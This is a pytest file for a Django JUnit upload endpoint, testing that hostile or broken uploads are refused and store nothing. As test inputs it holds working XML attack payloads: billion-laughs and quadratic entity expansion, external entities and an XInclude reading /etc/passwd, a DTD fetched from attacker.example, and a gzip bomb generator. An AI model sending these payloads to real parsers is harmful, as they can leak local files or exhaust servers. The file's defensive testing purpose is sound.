"""Hostile or broken JUnit uploads are refused with a 4xx and store nothing: entity
expansion, external entities and any DTD (defusedxml refuses them before expanding or
fetching anything), a gzip bomb, malformed XML (named where), non-XML, a body over the
limit once decompressed, and files or queries that are not a valid upload."""

from __future__ import annotations

import gzip
import tracemalloc
import zlib

import pytest
from django.test import Client

from junit import parse
from tests.api_http import new_token
from tests.junit_files import XML, corpus, gzipped, junit_xml, sizes

GOOD = junit_xml(("tests.test_a", "test_x", "passed"), ("tests.test_a", "test_y", "failed"))


@pytest.fixture
def post(suite):
    client = Client(HTTP_AUTHORIZATION=f"Bearer {new_token(suite, 'write')}")

    def send(body: bytes, *, query="commit=abc123", content_type=XML, **headers):
        return client.post(f"/api/v1/suites/{suite.slug}/junit?{query}", data=body,
                           content_type=content_type, **headers)

    return send


def refused(post, body, status, code, **kwargs) -> dict:
    before = sizes()
    response = post(body, **kwargs)
    assert (response.status_code, response.json()["error"]) == (status, code), response.json()
    assert sizes() == before, "a refused upload stored something"
    answer = response.json()
    assert answer["message"] and all(
        set(detail) == {"row", "field", "code", "message"} for detail in answer["details"])
    return answer


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<testsuite name="x"><testcase classname="a" name="&lol9;"/></testsuite>"""
QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "' + b"x" * 50_000 + b'">]>'
             b'<testsuite><testcase name="t">' + b"&a;" * 5_000 + b"</testcase></testsuite>")
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite><testcase classname="a" name="&xxe;"/></testsuite>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite SYSTEM "http://attacker.example/evil.dtd">
<testsuite><testcase classname="a" name="t"/></testsuite>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<testsuite><testcase classname="a" name="t"/></testsuite>"""
PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ELEMENT testsuite ANY>]>
<testsuite><testcase classname="a" name="t"/></testsuite>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, QUADRATIC, EXTERNAL_ENTITY, EXTERNAL_DTD,
                                  PARAMETER_ENTITY, PLAIN_DTD],
                         ids=["billion-laughs", "quadratic", "external-entity", "external-dtd",
                              "parameter-entity", "plain-dtd"])
def test_a_dtd_or_entity_is_refused_before_anything_is_expanded(post, body):
    answer = refused(post, body, 400, "forbidden_xml")
    assert "DTD" in answer["message"] or "entit" in answer["message"]


@pytest.mark.parametrize(("body", "where"), [
    (b'<testsuite>\n  <testcase name="a">\n  </testsuit>\n', "mismatched tag at line 3"),
    (b'<testsuite><testcase name="a"></testcase>', "no element found at line 1"),
    (b'<testsuite><testcase name="a" name="b"/></testsuite>', "duplicate attribute"),
    (b"  \n", "no element found at line 2, column 1"),
    (b'{"measurements": []}', "not well-formed (invalid token) at line 1, column 1"),
    (b"\x89PNG\r\n\x1a\n\x00\x00", "line 1"),
    (b'<testsuite><testcase name="&nope;"/></testsuite>', "undefined entity at line 1"),
], ids=["mismatched", "truncated", "duplicate-attribute", "empty", "json", "binary",
        "undefined-entity"])
def test_broken_xml_is_refused_saying_where(post, body, where):
    assert where in refused(post, body, 400, "invalid_xml")["message"]


def test_xml_that_is_not_junit_is_refused(post):
    answer = refused(post, b"<html><body>502 Bad Gateway</body></html>", 422, "not_junit")
    assert "<html>" in answer["message"]


def test_a_body_over_the_limit_is_refused(post, settings):
    settings.UPLOAD_MAX_BYTES = len(GOOD) - 1
    refused(post, GOOD, 413, "too_large")


def test_a_gzip_body_is_taken_as_the_same_file(post):
    first = post(gzipped(GOOD), HTTP_CONTENT_ENCODING="gzip")
    assert first.status_code == 201, first.json()
    again = post(GOOD)
    assert (again.status_code, again.json()["duplicate"]) == (200, True)
    assert again.json()["id"] == first.json()["id"]
    two_members = gzipped(GOOD[:40]) + gzipped(GOOD[40:])  # concatenated members, one body
    assert post(two_members, HTTP_CONTENT_ENCODING="x-gzip").json()["duplicate"] is True


def test_a_body_over_the_limit_once_decompressed_is_refused(post, settings):
    settings.UPLOAD_MAX_BYTES = len(GOOD) - 1
    assert len(gzipped(GOOD)) < settings.UPLOAD_MAX_BYTES
    answer = refused(post, gzipped(GOOD), 413, "too_large", HTTP_CONTENT_ENCODING="gzip")
    assert "decompressed" in answer["message"]


def _bomb(size: int) -> bytes:
    """``size`` zero bytes gzipped, without ever holding them."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    block = bytes(1 << 20)
    return b"".join(squeeze.compress(block) for _ in range(size >> 20)) + squeeze.flush()


def test_a_gzip_bomb_is_refused_having_inflated_no_more_than_the_limit(
    post, monkeypatch, settings
):
    settings.UPLOAD_MAX_BYTES = 1 << 20
    bomb = _bomb(128 << 20)  # 128 MiB of zeros in about 128 KiB: a thousandfold
    assert len(bomb) < 256 << 10
    inflated_bytes = []
    real = zlib.decompressobj

    class Counting:
        def __init__(self, *args, **kwargs):
            self._real = real(*args, **kwargs)

        def decompress(self, data, max_length=0):
            out = self._real.decompress(data, max_length)
            inflated_bytes.append(len(out))
            return out

        def __getattr__(self, name):
            return getattr(self._real, name)

    monkeypatch.setattr(parse.zlib, "decompressobj", Counting)
    refused(post, bomb, 413, "too_large", HTTP_CONTENT_ENCODING="gzip")
    assert sum(inflated_bytes) == settings.UPLOAD_MAX_BYTES + 1


@pytest.mark.parametrize("body", [GOOD, gzipped(GOOD)[:-12], b"\x1f\x8b\x08\x00garbage"],
                         ids=["not-gzip", "truncated", "corrupt"])
def test_a_body_that_is_not_the_gzip_it_claims_is_refused(post, body):
    refused(post, body, 400, "invalid_gzip", HTTP_CONTENT_ENCODING="gzip")


def test_another_content_encoding_is_refused(post):
    refused(post, GOOD, 415, "unsupported_encoding", HTTP_CONTENT_ENCODING="br")


@pytest.mark.parametrize("content_type", ["application/json", "text/plain", ""])
def test_a_body_not_sent_as_xml_is_refused(post, content_type):
    answer = refused(post, GOOD, 415, "unsupported_media_type", content_type=content_type)
    assert "application/xml" in answer["message"]


def test_a_file_with_more_testcases_than_an_upload_may_hold_is_refused(post, settings):
    settings.UPLOAD_MAX_RECORDS = 2
    many = junit_xml(*[("tests.test_a", f"test_{i}", "passed") for i in range(3)])
    refused(post, many, 413, "too_many_records")


def test_a_file_of_many_small_elements_is_refused_before_it_costs_memory(post, settings):
    settings.UPLOAD_MAX_RECORDS = 10
    chaff = b"<testsuite>" + b"<x/>" * (10 * parse.ELEMENTS_PER_CASE) + b"</testsuite>"
    answer = refused(post, chaff, 413, "too_many_elements")
    assert f"more than {10 * parse.ELEMENTS_PER_CASE:,} XML elements" in answer["message"]
    ok = b"<testsuite>" + b"<x/>" * (10 * parse.ELEMENTS_PER_CASE - 1) + b"</testsuite>"
    assert post(ok).status_code == 201


def nested(depth: int, name: bytes = b"s") -> bytes:
    """A file ``depth`` elements deep: test suites in test suites, a testcase innermost."""
    suites = depth - 2
    return (b"<testsuites>" + (b'<testsuite name="' + name + b'">') * suites
            + b'<testcase classname="a" name="t"/>' + b"</testsuite>" * suites
            + b"</testsuites>")


def test_a_file_nested_deeper_than_the_limit_is_refused_naming_it(post):
    deep = nested(50_000)  # 1.6 MB of nested test suites
    assert 1_500_000 < len(deep) < 1_700_000
    answer = refused(post, deep, 400, "too_deep")
    assert f"more than {parse.MAX_DEPTH} deep" in answer["message"]
    refused(post, nested(parse.MAX_DEPTH + 1), 400, "too_deep")
    assert post(nested(parse.MAX_DEPTH)).status_code == 201


def test_the_parser_refuses_depth_as_it_reads_in_bounded_memory():
    deep = nested(50_000)
    tracemalloc.start()
    try:
        with pytest.raises(parse.JUnitInvalid) as refusal:
            parse.parse_junit(deep, max_cases=100_000)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert refusal.value.code == "too_deep"
    # No tree of it is built: the refusal costs a fraction of the body it reads.
    assert peak < len(deep) // 4
    assert len(parse.parse_junit(nested(parse.MAX_DEPTH), max_cases=10).cases) == 1


def test_each_invalid_testcase_is_named_by_its_index_and_field(post):
    xml = (b'<testsuites name="pytest tests"><testsuite name="pytest">'
           b'<testcase classname="tests.test_a" name="test_ok"/>'
           b'<testcase classname="tests.test_a"/>'
           b'<testcase classname="tests.test_a" name="' + b"x" * 1000 + b'"/>'
           b"</testsuite></testsuites>")
    answer = refused(post, xml, 422, "validation_failed")
    assert [(d["row"], d["field"], d["code"]) for d in answer["details"]] == [
        (1, "name", "missing_field"), (2, "name", "invalid_nodeid")]
    assert answer["message"].startswith("row 1, field 'name': a testcase needs a name")
    assert "at most 1000 characters" in answer["details"][1]["message"]


@pytest.mark.parametrize(("query", "field"), [
    ("", "commit"),
    ("commit=", "commit"),
    ("commit=" + "a" * 201, "commit"),
    ("commit=abc&branch=ma%0Ain", "branch"),
    ("commit=abc&job=" + "j" * 201, "job"),
    ("commit=abc&attempt=0", "attempt"),
    ("commit=abc&attempt=two", "attempt"),
])
def test_an_invalid_query_is_refused_naming_its_field(post, query, field):
    """Every query value refused alike, as every endpoint refuses a query parameter
    (docs/api.md): missing, empty, too long or out of range."""
    before = sizes()
    response = post(GOOD, query=query)
    assert (response.status_code, response.json()["error"]) == (422, "invalid_request")
    assert [(d["row"], d["field"]) for d in response.json()["details"]] == [(None, field)]
    assert sizes() == before


def test_an_xinclude_is_never_followed(post):
    xml = (b'<testsuite xmlns:xi="http://www.w3.org/2001/XInclude"><testcase classname="a" '
           b'name="t"><failure><xi:include href="file:///etc/passwd" parse="text"/>'
           b"</failure></testcase></testsuite>")
    response = post(xml)
    assert response.status_code == 201
    assert "root:" not in str(response.json())


def test_the_real_files_are_taken_gzipped(post):
    body = gzip.compress(corpus("surefire-TEST-org.acme.FlakyTest.xml"))
    response = post(body, HTTP_CONTENT_ENCODING="gzip")
    assert (response.status_code, response.json()["producer"]) == (201, "surefire")
